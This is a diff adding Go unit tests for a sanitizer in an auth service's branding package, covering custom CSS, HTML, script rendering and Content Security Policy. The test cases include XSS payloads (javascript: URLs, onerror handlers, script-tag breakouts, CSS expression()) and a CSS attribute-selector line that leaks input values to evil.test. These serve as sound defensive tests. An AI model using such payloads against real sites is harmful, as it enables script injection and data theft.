@@ -0,0 +1,88 @@
+package branding_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/smallbiznis/railzway-auth/internal/branding"
+	"github.com/smallbiznis/railzway-auth/internal/domain"
+)
+
+func TestSanitizeCSS(t *testing.T) {
+	cases := map[string]string{
+		`body { color: red; }`:                              `body { color: red; }`,
+		`@import url("https://evil.test/x.css"); a{}`:       `a{}`,
+		`a { background: url(javascript:alert(1)) }`:        `a { background: none) }`,
+		`a { background: url('https://cdn.test/bg.png') }`:  `a { background: url("https://cdn.test/bg.png") }`,
+		`a { width: expression(alert(1)) }`:                 `a { width: alert(1)) }`,
+		`a { width: expexpression(ression(alert(1)) }`:      `a { width: alert(1)) }`,
+		`a { width: ex\70ression(alert(1)) }`:               `a { width: ex70ression(alert(1)) }`,
+		`a { -moz-binding: url(https://evil.test/x.xml) }`:  `a { : none }`,
+		`</style><script>alert(1)</script>`:                 `/style>script>alert(1)/script>`,
+		`a { background: url("https://cdn.test/x.png') }`:   `a { background: none }`,
+		"a { color: red; /* </style> */ }":                  "a { color: red;  }",
+		`a { background: url(data:image/png;base64,AAAA) }`: `a { background: url("data:image/png;base64,AAAA") }`,
+		// Hosts other than the org's asset origins could collect what
+		// attribute selectors match.
+		`input[value^="a"] { background: url(https://evil.test/?a) }`: `input[value^="a"] { background: none }`,
+		`a { background: url(https://cdn.test.evil.test/x.png) }`:     `a { background: none }`,
+	}
+	for input, want := range cases {
+		require.Equal(t, want, branding.SanitizeCSS(input, []string{"https://cdn.test"}), input)
+	}
+}
+
+func TestSanitizeHTML(t *testing.T) {
+	cases := map[string]string{
+		`<p class="note">Hi <b>there</b></p>`:                   `<p class="note">Hi <b>there</b></p>`,
+		`<script>alert(1)</script>ok`:                           `ok`,
+		`<img src="x" onerror="alert(1)">`:                      `<img>`,
+		`<img src="https://cdn.test/logo.png" alt="Logo">`:      `<img src="https://cdn.test/logo.png" alt="Logo">`,
+		`<a href="javascript:alert(1)">x</a>`:                   `<a>x</a>`,
+		`<a href="//evil.test">x</a>`:                           `<a>x</a>`,
+		`<a href="/terms">Terms</a>`:                            `<a href="/terms">Terms</a>`,
+		`<a href="https://acme.test">Acme</a>`:                  `<a href="https://acme.test" target="_blank" rel="noopener noreferrer">Acme</a>`,
+		`<div id="root"><form action="/x"><input></form></div>`: `<div></div>`,
+		`<p>unclosed <em>tags`:                                  `<p>unclosed <em>tags</em></p>`,
+		`<svg><script>alert(1)</script></svg>after`:             `after`,
+		`<p onclick="x()" style="color:red">&lt;b&gt;</p>`:      `<p>&lt;b&gt;</p>`,
+		`</p>stray`: `stray`,
+	}
+	for input, want := range cases {
+		require.Equal(t, want, branding.SanitizeHTML(input), input)
+	}
+}
+
+func TestRenderIndex(t *testing.T) {
+	index := []byte(`<!doctype html><html><head><script type="module" src="/assets/app.js"></script></head><body class="app"><div id="root"></div></body></html>`)
+	css := "a { color: red }"
+	js := "console.log('</script><script>alert(1)')"
+	header := `<p>Header<script>alert(1)</script></p>`
+	primary := "#112233"
+	b := domain.Branding{CustomCSS: &css, CustomJS: &js, CustomHTMLHeader: &header, PrimaryColor: &primary}
+
+	page := string(branding.RenderIndex(index, b, "n0nce", nil))
+	require.Contains(t, page, `<script nonce="n0nce" type="module" src="/assets/app.js">`)
+	require.Contains(t, page, `<style nonce="n0nce" data-org-branding="colors">:root{--org-primary-color:#112233;}</style>`)
+	require.Contains(t, page, `<style nonce="n0nce" data-org-branding="css">a { color: red }</style></head>`)
+	require.Contains(t, page, `<body class="app"><div data-org-branding="header"><p>Header</p></div>`)
+	require.NotContains(t, page, "console.log", "custom JS needs the org flag")
+
+	b.CustomJSEnabled = true
+	page = string(branding.RenderIndex(index, b, "n0nce", []byte(`{"org":"Acme"}`)))
+	require.Contains(t, page, `<script nonce="n0nce" data-org-branding="js">console.log('<\/script><script>alert(1)')</script></body>`)
+	require.Contains(t, page, `<script id="org-bootstrap" type="application/json">{"org":"Acme"}</script>`)
+	require.Equal(t, 3, strings.Count(page, "</script>"), "custom JS cannot close its script element")
+
+	logo, favicon := "https://CDN.test/logo.png", "https://cdn.test/favicon.ico"
+	origins := branding.AssetOrigins(domain.Branding{LogoURL: &logo, FaviconURL: &favicon})
+	require.Equal(t, []string{"https://cdn.test"}, origins)
+	csp := branding.ContentSecurityPolicy("n0nce", origins)
+	require.Contains(t, csp, "script-src 'self' 'nonce-n0nce'")
+	require.Contains(t, csp, "img-src 'self' data: https://cdn.test;")
+	require.NotContains(t, csp, "https:;", "images, fonts and styles cannot load from any https host")
+	require.NotContains(t, csp, "https: ")
+	require.NotContains(t, csp, "unsafe-inline")
+}